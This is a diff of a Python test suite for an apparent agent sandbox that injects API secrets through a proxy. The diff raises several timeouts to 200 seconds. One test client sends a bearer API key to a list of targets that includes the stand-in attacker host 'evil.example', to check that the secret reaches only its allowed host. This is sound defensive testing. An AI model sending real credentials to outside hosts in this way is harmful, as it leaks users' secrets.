@@ -35,7 +35,7 @@ def wanted(
 
 
 def run(place: Confined, code: str, *arguments: str, **options) -> Output:
-    return output(place.wrap(prepare([PYTHON, "-I", "-S", "-c", code, *arguments], **options)), timeout=40)
+    return output(place.wrap(prepare([PYTHON, "-I", "-S", "-c", code, *arguments], **options)), timeout=200)
 
 
 def vault(uses: list[Use], *exposures: dict[str, Any]) -> Vault:
@@ -256,7 +256,7 @@ CLIENT = """
 import http.client, os, sys
 host, port = os.environ["HTTP_PROXY"].removeprefix("http://").split(":")
 for target in sys.argv[1:]:
-    connection = http.client.HTTPConnection(host, int(port), timeout=20)
+    connection = http.client.HTTPConnection(host, int(port), timeout=200)
     connection.request("GET", target, headers={"Authorization": "Bearer " + os.environ["API_KEY"]})
     answer = connection.getresponse()
     print(answer.status, answer.read().decode())
@@ -299,12 +299,12 @@ def test_an_agent_with_a_placeholder_reaches_its_host_with_the_secret_and_no_oth
         with confine(asked) as place:
             targets = [f"http://127.0.0.1:{port}/a", f"http://localhost:{port}/b", "http://evil.example/c"]
             command = place.wrap(prepare([PYTHON, "-I", "-S", "-c", CLIENT, *targets]))
-            told = await aoutput(command, timeout=40)
+            told = await aoutput(command, timeout=200)
             assert place.values == ()
         server.close()
         return told
 
-    told = asyncio.run(asyncio.wait_for(scene(), 50))
+    told = asyncio.run(asyncio.wait_for(scene(), 200))
 
     lines = told.stdout.decode().splitlines()
     assert lines[0] == "200 hello"
@@ -325,7 +325,7 @@ opener = urllib.request.build_opener(
     urllib.request.HTTPSHandler(context=ssl.create_default_context()),
 )
 asked = urllib.request.Request(os.environ["TARGET"], headers={"X-Key": os.environ["API_KEY"]})
-print(opener.open(asked, timeout=20).read().decode())
+print(opener.open(asked, timeout=200).read().decode())
 """
 
 
@@ -357,12 +357,12 @@ def test_a_secret_is_put_inside_tls_for_a_client_that_knows_nothing_of_it(tmp_pa
         with confine(asked) as place:
             env = {"TARGET": f"https://{host}/"}
             told = await aoutput(
-                place.wrap(prepare([PYTHON, "-I", "-S", "-c", SECURE_CLIENT], env=env)), timeout=40
+                place.wrap(prepare([PYTHON, "-I", "-S", "-c", SECURE_CLIENT], env=env)), timeout=200
             )
         server.close()
         return told
 
-    told = asyncio.run(asyncio.wait_for(scene(), 50))
+    told = asyncio.run(asyncio.wait_for(scene(), 200))
 
     assert told.stdout == b"hello\n", told.stderr
     assert f"X-Key: {VALUE}".lower().encode() in got[0].lower()
